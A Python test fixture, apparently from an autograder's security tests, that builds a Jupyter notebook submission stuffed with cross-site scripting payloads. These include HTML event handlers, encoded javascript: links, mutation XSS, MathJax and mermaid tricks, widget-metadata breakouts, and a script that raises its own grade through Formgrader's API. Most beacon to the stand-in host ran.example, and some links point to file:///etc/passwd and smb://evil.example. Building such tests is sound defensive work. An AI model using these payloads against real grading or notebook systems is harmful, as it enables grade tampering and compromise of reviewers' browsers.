"""A submission whose code is right and whose every other part attacks the browser of whoever opens it.

Whatever runs, loads or can be clicked into running asks for `https://ran.example/<name>`: requests to that host tell
what did. The written answer holds the attack that began it: a script that gives itself points through Formgrader's API.
"""

import base64
import json
from urllib.parse import quote

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from autograder.notebook import cells

RAN = "https://ran.example/"
POINTS = 50.0
ATTACK = f"""<script>
fetch(`/formgrader/api/grades?submission_id=${{submission_id}}`).then(answer => answer.json()).then(grades =>
  grades.forEach(grade => fetch(`/formgrader/api/grade/${{grade.id}}`, {{
    method: "PUT", headers: {{"X-CSRFToken": getCookie("_xsrf")}}, body: JSON.stringify({{manual_score: {POINTS}}})}})))
</script>"""


def run(name: str) -> str:
    """JavaScript, with no quotes of its own but back-ticks, that tells it ran."""
    return f"void(new(Image)().src=`{RAN}{name}`)"


def page(name: str) -> str:
    return f"<script>{run(name)}</script>"


def link(name: str, scheme: str) -> str:
    """A Markdown link of a scheme that runs; the spaces and brackets of its script are percent-encoded."""
    return f"[{name}]({scheme}{quote(run(name))})"


TAGS = {
    "script": page("script"),
    "image": f'<img src=x onerror="{run("image")}">',
    "svg": f'<svg onload="{run("svg")}"></svg>',
    "svg_script": f"<svg><script>{run('svg_script')}</script></svg>",
    "svg_animation": f'<svg><animate onbegin="{run("svg_animation")}" attributeName=x dur=1s></svg>',
    "frame": f"<iframe srcdoc='{page('frame')}'></iframe>",
    "frame_link": f'<iframe src="javascript:{run("frame_link")}"></iframe>',
    "details": f'<details open ontoggle="{run("details")}">x</details>',
    "focus": f'<form action="{RAN}form"><input autofocus onfocus="{run("focus")}"></form>',
    "style": f'<style>@import "{RAN}style";</style>',
    "stylesheet": f'<link rel=stylesheet href="{RAN}stylesheet">',
    "media": f'<video src=x onerror="{run("media")}"></video>',
    "object": f'<object data="{RAN}object"></object>',
    "refresh": f'<meta http-equiv=refresh content="0;url={RAN}refresh">',
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--><img src=x onerror={run('mutation')}>'>",
    "anchor": f'<a href="javascript:{run("anchor")}">x</a>',
}  # fmt: skip
LINKS = {
    "scheme": link("scheme", "javascript:"),
    "mixed_case": link("mixed_case", "JaVaScRiPt:"),
    "entity": link("entity", "&#106;avascript:"),
    "hexadecimal": link("hexadecimal", "&#x6A;avascript&#x3A;"),
    "named": link("named", "javascript&colon;"),
    "tab": link("tab", "java&Tab;script:"),
    "new_line": link("new_line", "java&NewLine;script:"),
    "escaped": link("escaped", "javascript\\:"),
    "control": link("control", "&#1;javascript:"),
    "reference": f"[reference][r]\n\n[r]: javascript:{quote(run('reference'))}",
    "automatic": f"<javascript:{quote(run('automatic'))}>",
    "data": f"[data](data:text/html;base64,{base64.b64encode(page('data').encode()).decode()})",
}
PROGRAMS = {  # what a browser hands on to other programs, or opens from the disk
    "vscode": "[vscode](vscode://file/etc/passwd)",
    "msdt": "[msdt](ms-msdt:/id)",
    "disk": "[disk](<file:///etc/passwd> 'title')",
    "share": "[share][s]\n\n[s]:\n  smb://evil.example/x",
}
IMAGES = {
    "picture": f"![picture]({RAN}picture)",
    "picture_reference": f"![picture_reference]\n\n[picture_reference]: {RAN}picture_reference",
    "picture_collapsed": f"![picture_collapsed](attachment: a b)\n\n[picture_collapsed]: {RAN}picture_collapsed",
    "picture_linked": f"[![attachment:]({RAN}picture_linked)](https://example.org)",
}
MATHS = {
    "href": f"$\\href{{javascript:{run('href')}}}{{\\text{{href}}}}$",
    "unmasked": f"$\\let\\a=\\href \\a{{javascript:{run('unmasked')}}}{{x}}$",
    "require": f"$\\require{{html}}\\style{{background:url({RAN}require)}}{{x}}$",
    "rule": "$\\rule{300em}{9em}$ $\\def\\z{\\rule{300em}{9em}}$ $\\z$",
    "kern": "$\\kern-99em\\smash{\\raise 9em{\\Huge x}}$",
    "mermaid": "```mermaid\ngraph TD; "
    f'A["<img src=x onerror={run("mermaid")}>"]; click A "javascript:{run("mermaid")}"\n```',
}
MARKDOWN = {**TAGS, **LINKS, **PROGRAMS, **IMAGES, **MATHS}
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run("output_svg")}">{page("output_svg")}</svg>'
WIDGET = "application/vnd.jupyter.widget-view+json"
STATE = "application/vnd.jupyter.widget-state+json"
PIXEL = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"


def displayed(mime: str, value: object, **metadata: object) -> NotebookNode:
    return new_output("display_data", data={mime: value, "text/plain": "x"}, metadata={mime: metadata})


OUTPUTS = {
    **{f"output_{name}": displayed("text/html", tag.replace(f"{RAN}{name}", f"{RAN}output_{name}"))
       for name, tag in TAGS.items()},
    "output_javascript": displayed("application/javascript", run("output_javascript")),
    "output_markdown": displayed("text/markdown", page("output_markdown")),
    "output_latex": displayed("text/latex", f"$\\href{{javascript:{run('output_latex')}}}{{x}}$"),
    "output_drawing": displayed("image/svg+xml", SVG),
    "output_isolated": displayed("text/html", page("output_isolated"), isolated=True),
    "output_width": displayed("image/png", PIXEL, width=f"1 onload={run('output_width')}"),
    "output_bytes": displayed("image/png", f'x" onerror="{run("output_bytes")}'),
    "output_widget": displayed(WIDGET, {"model_id": f"</script>{page('output_widget')}", "version_major": 2}),
    "output_vega": displayed("application/vnd.vegalite.v5+json", {"data": {"url": f"{RAN}output_vega"}, "mark": "bar"}),
    "output_mermaid": displayed("text/vnd.mermaid", f'graph TD; A["<img src=x onerror={run("output_mermaid")}>"]'),
    "output_text": displayed("text/plain", page("output_text")),
    "output_stream": new_output("stream", text=page("output_stream") + "\x1b]8;;javascript:1\x07x\x1b]8;;\x07"),
    "output_error": new_output("error", ename=page("output_error"), evalue="</pre>" + page("output_error"),
                               traceback=["</pre>" + page("output_error")]),
}  # fmt: skip


def hostile(solved: NotebookNode) -> NotebookNode:
    """`solved` with every attack of this file in its written answer, cells of its own, outputs and metadata."""
    for cell in solved.cells:
        if cells.kind(cell) == cells.WRITTEN:
            cell.source = "\n\n".join([ATTACK, *MARKDOWN.values()])
    titles = "\n\n".join(f"# {cells.grade_id(cell)}" for cell in solved.cells if cells.grade_id(cell))
    texts = [new_markdown_cell(text) for text in MARKDOWN.values()]
    others = [_with_attachments(), _raw(), _code_that_closes_the_script()]
    solved.cells[:0] = [new_markdown_cell(titles)]
    solved.cells += [*texts, *others, *map(_prints, OUTPUTS.values())]
    solved.metadata["widgets"] = {STATE: {"state": {"x": f"</script>{page('widgets')}"}, "version_major": 2}}
    solved.metadata["title"] = f"</title>{page('title')}"
    return solved


def _prints(output: NotebookNode) -> NotebookNode:
    """A code cell with a stored output, which adds the same one, unfiltered, when it runs in the sandbox."""
    added = f"import json\nget_ipython().collected.items.append(json.loads({json.dumps(output)!r}))"
    metadata = {"tags": [f"x onclick={run('tags')}"], "jupyter": {"outputs_hidden": False}}
    return new_code_cell(added, outputs=[output], metadata=metadata)


def _with_attachments() -> NotebookNode:
    cell = new_markdown_cell("![a](attachment:a.svg) ![b](attachment:b.png)")
    drawing = base64.b64encode(SVG.encode()).decode()
    cell["attachments"] = {
        "a.svg": {"image/svg+xml": drawing},
        "b.png": {"image/png": f'x" onerror="{run("attachment")}'},
    }
    return cell


def _raw() -> NotebookNode:
    return new_raw_cell(page("raw"), metadata={"raw_mimetype": "text/html"})


def _code_that_closes_the_script() -> NotebookNode:
    return new_code_cell(f"x = '''</script></pre></code>{page('code')}'''")
